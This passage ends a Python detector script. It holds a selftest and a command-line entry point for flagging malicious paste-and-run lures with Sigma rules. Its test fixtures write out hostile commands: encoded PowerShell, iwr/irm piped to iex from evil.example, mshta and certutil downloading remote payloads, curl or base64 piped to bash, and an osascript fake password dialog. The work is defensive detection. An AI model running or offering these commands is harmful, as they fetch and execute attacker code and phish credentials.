    check("list of maps = OR; absent field false", r.eval_event(ev(OriginalFileName="A.EXE")), True)
    r = _mini_rule({"sel": {"CommandLine|contains": "x"}, "filter": {"ParentImage|endswith": "\\y.exe"},
                    "condition": "sel and not filter"})
    check("absent field in filter", r.eval_event(ev(CommandLine="x")), True)
    check("program tokens", [t for t, _ in program_tokens(
        'cmd /c start "" /min powershell -w hidden -ep bypass -c "iwr http://x | iex" & C:\\x\\y.exe', "windows")],
        ["cmd", "start", "powershell", "iwr", "iex", "C:\\x\\y.exe"])
    check("program tokens unix", [t for t, _ in program_tokens(
        "sudo bash -c \"$(curl -fsSL https://x/i.sh)\" && chmod +x /tmp/a; /tmp/a", "linux")],
        ["sudo", "bash", "curl", "chmod", "/tmp/a"])

    # -- end-to-end on the vendored rules --
    det = Detector(load_rules(rules_dir))
    print(f"loaded {len(det.rules)} rules from {rules_dir}")
    if len(det.rules) < 30:
        print("FAIL too few rules loaded")
        fails += 1
    must_flag = [
        "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "mshta https://evil.example/x.hta # I am not a robot",
        'powershell -c "iwr https://evil.example/a.ps1 | iex" # \u2705 Verification ID: 73412',
        "conhost.exe --headless powershell -nop -c \"irm https://evil.example/p | iex\"",
        "cmd /c finger gTrs@203.0.113.7 | cmd",
        "certutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\\a.exe",
        "echo ZWNobyBoaQ== | base64 -d | bash",
        "osascript -e 'display dialog \"To continue enter your password\" default answer \"\" with hidden answer'",
        "explorer.exe C:\\Users\\Public                                        # verification code",
    ]
    must_not_flag = [
        "ls -la",
        "git status",
        "npm install --save-dev typescript",
        "Get-ChildItem -Path C:\\Users\\me\\Documents | Sort-Object Length",
        "Hello, here is the meeting link for tomorrow.",
        "pip install requests==2.32.3",
    ]
    for s in must_flag:
        h = det.evaluate(s)
        check(f"flag {s[:60]!r}", bool(h), True)
        if h:
            print("       -> " + "; ".join(sorted(h))[:300])
    for s in must_not_flag:
        h = det.evaluate(s)
        check(f"clean {s[:60]!r}", sorted(h), [])
    print(f"\n{'ALL OK' if not fails else str(fails) + ' FAILURE(S)'}")
    return 1 if fails else 0


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("file", nargs="?", help="JSONL file with {id, text, ...} lines")
    ap.add_argument("--json", action="store_true", help="print one JSON summary object")
    ap.add_argument("--selftest", action="store_true")
    ap.add_argument("--rules", default=DEFAULT_RULES_DIR, help="directory of Sigma rule YAML files")
    ap.add_argument("--min-level", default="informational", choices=LEVELS,
                    help="ignore rules below this level (default: use all)")
    ap.add_argument("--field", default="text", help="JSON key holding the text (default: text)")
    ap.add_argument("--contexts", default="all",
                    help="comma-separated paste contexts or platforms to simulate (default: all): "
                         + ", ".join(c.name for c in CONTEXTS) + "; or windows, linux, macos")
    ap.add_argument("-v", "--verbose", action="store_true", help="show the paste contexts that fired")
    args = ap.parse_args(argv)
    if args.selftest:
        return selftest(args.rules)
    if not args.file:
        ap.error("FILE.jsonl is required (or --selftest)")
    return run_file(args)


if __name__ == "__main__":
    sys.exit(main())
